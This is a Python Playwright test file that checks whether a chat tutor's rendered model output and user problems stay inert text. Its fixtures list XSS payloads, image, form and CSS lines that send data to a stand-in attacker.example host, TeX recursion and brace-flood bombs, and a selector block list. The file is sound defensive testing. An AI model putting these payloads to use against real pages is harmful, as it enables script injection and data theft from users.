"""What a model writes to load, cover or run something stays text, however the stream cuts it.

The page's fixture fails on any request to elsewhere, any dialog or further window, and any complaint of the
content policy.
"""

from collections.abc import Sequence

import pytest
from playwright.sync_api import Page, expect

from tests.browser.names import CHAT, FORMULA_ERROR, LOADED_FROM_ELSEWHERE, THOUGHT
from tests.browser.test_chat import ask, panel, status
from tutor.inference.scripted import Script

pytestmark = pytest.mark.browser

AWAY = "http://attacker.example"
HTML = (
    f'<img src="{AWAY}/?q=SECRET">',
    "<img src=x onerror=alert(1)>",
    f'<img srcset="{AWAY}/a 1x" src=data:,>',
    f'<svg><image href="{AWAY}/b"/></svg>',
    '<svg onload="alert(1)"><use href="data:image/svg+xml,<svg/>#x"/></svg>',
    f'<p style="background:url({AWAY}/c)">styled</p>',
    '<p style="position:fixed;inset:0;z-index:9999">log in here</p>',
    f'<form action="{AWAY}"><input name=password><input type=image src="{AWAY}/d"></form>',
    f'<a href="#" ping="{AWAY}/e">pinged</a>',
    f'<video src="{AWAY}/f" poster="{AWAY}/g" autoplay></video>',
    f'<audio src="{AWAY}/h" autoplay></audio>',
    f'<table background="{AWAY}/i"><tr><td>cell</td></tr></table>',
    '<p id="__proto__">proto</p>',
    '<button onclick="alert(1)">press</button>',
    f'<iframe src="{AWAY}/j"></iframe>',
    f'<object data="{AWAY}/k"></object>',
    f'<embed src="{AWAY}/l">',
    f'<link rel=stylesheet href="{AWAY}/m">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/n">',
    f'<base href="{AWAY}/">',
    f"<style>@import url({AWAY}/o); body {{ display: none }}</style>",
    "<script>alert(1)</script>",
    f'<math><mglyph><style><img src="{AWAY}/p" onerror=alert(1)></style></mglyph></math>',
    "<details open ontoggle=alert(1)>opened</details>",
)
MARKDOWN = (
    f"![x]({AWAY}/?q=SECRET)",
    f"![x][1]\n\n[1]: {AWAY}/?q=1",
    f"![x]({AWAY}/\n?q=2)",
    "[click](javascript:alert(1))",
    "[data](data:text/html,<script>alert(1)</script>)",
    "[vb](vbscript:alert(1))",
    f"<{AWAY}/auto>",
    '[a](http://x "onmouseover=alert(1)")',
    f"[![nested]({AWAY}/q)]({AWAY}/r)",
    '```mermaid\ngraph TD; A-->B\nclick A "javascript:alert(1)"\n```',
    f"bare {AWAY}/s and www.attacker.example",
)
TEX = (
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{http://attacker.example}$",
    r"$\includegraphics{http://attacker.example/x.png}$",
    r"$\htmlData{onclick=alert(1)}{x}$",
    r"$\htmlClass{gr-button}{x}$ and \(\htmlStyle{position:fixed}{x}\) and \(\htmlId{problem}{x}\)",
    r"$\def\a{\a\a}\a$",
    r"$\edef\b{\b\b}$",
    r"\(\gdef\c{\c\c}\c\)",
    r"$\rule{999999em}{999999em}$ and \(\kern-9999em x\) and \(\raisebox{9999em}{x} \hspace{9999em} y\)",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"\(\unicode{x3c}script\unicode{x3e}\) and \(\verb|<script>|\)",
)
# Elements and attributes that nothing a model writes may become.
FORBIDDEN = ", ".join(
    f"{CHAT} .{part} {what}"
    for part in ("bot", "user")
    for what in (
        "img", "image", "form", "input", "iframe", "object", "embed", "video", "audio", "script", "style",
        "link", "meta", "base", "use", "mglyph", "[ping]", "[srcset]", "[poster]", "[background]",
        "[onclick]", "[onerror]", "[onload]", "[ontoggle]", "#__proto__", ".gr-button:not(button)",
        "a[href^=javascript]",
        "a[href^=data]", ".mermaid", "[style*=url]", "[style*=fixed]",
    )
)  # fmt: skip


def stays_inert(page: Page, chat: str = CHAT) -> None:
    """Assert that nothing within `chat` has become more than text."""
    assert page.locator(LOADED_FROM_ELSEWHERE.replace(CHAT, chat)).count() == 0
    found = page.locator(FORBIDDEN.replace(CHAT, chat))
    assert found.evaluate_all("all => all.map((e) => e.outerHTML.slice(0, 200))") == []
    assert page.locator(FORMULA_ERROR.replace(CHAT, chat)).count() == 0
    assert page.evaluate("window.__xss") == 0
    assert page.evaluate("document.querySelector('html').scrollWidth <= innerWidth")
    assert page.locator(chat).bounding_box()["height"] > 100


def hostile_reply(lines: Sequence[str]) -> Script:
    """Return a reply that has these lines in its thought and in its answer."""
    said = "\n\n".join(lines)
    # A fence left open at the end would swallow what follows; it comes last.
    ending = f"shown to the end\n\n~~~html\n<img src={AWAY}/open>"
    return Script(f"<think>\n{said}\n</think>\n{said}\n\n{ending}", delay_s=0.001)


@pytest.mark.parametrize(("kind", "lines"), [("html", HTML), ("markdown", MARKDOWN), ("tex", TEX)])
def test_hostile_words_are_text_in_the_thought_the_answer_and_while_they_stream(scripted_page, kind, lines):
    page = scripted_page({"go": hostile_reply(lines)})
    page.set_default_timeout(60_000)
    ask(page, "go")
    expect(page.locator(CHAT).get_by_text("shown to the end")).to_be_visible(timeout=60_000)
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)
    panel(page, "Thought").click()
    expect(page.locator(THOUGHT)).to_have_count(1)
    stays_inert(page)
    shown = page.locator(CHAT).inner_text()
    assert "alert(1)" in shown or "javascript" in shown or "attacker" in shown or kind == "tex"


@pytest.mark.parametrize("text", ["{" * 100_000, "$" + "{" * 100_000 + "$", "\\(" + "\\frac{1}{" * 20_000])
def test_a_hundred_thousand_braces_leave_the_page_alive(scripted_page, text):
    page = scripted_page({"go": Script(f"<think>a</think>{text}", delay_s=0.0), "again": Script("It is 4.")})
    page.set_default_timeout(60_000)
    ask(page, "go")
    page.get_by_role("button", name="Stop").click()
    expect(status(page)).to_have_text("Stopped.", timeout=60_000)
    ask(page, "again")
    expect(page.locator(CHAT).get_by_text("It is 4.")).to_be_visible(timeout=60_000)
    assert page.locator(FORMULA_ERROR).count() == 0


def test_a_hostile_problem_is_text_for_everyone_who_sees_it(scripted_page):
    problem = " ".join((*HTML, *MARKDOWN[:8], *TEX))[:3_900]
    page = scripted_page({problem: Script("It is 4.")})
    page.set_default_timeout(60_000)
    ask(page, problem)
    expect(page.locator(CHAT).get_by_text("It is 4.").or_(page.locator(".verdict")).first).to_be_visible(
        timeout=60_000
    )
    stays_inert(page)
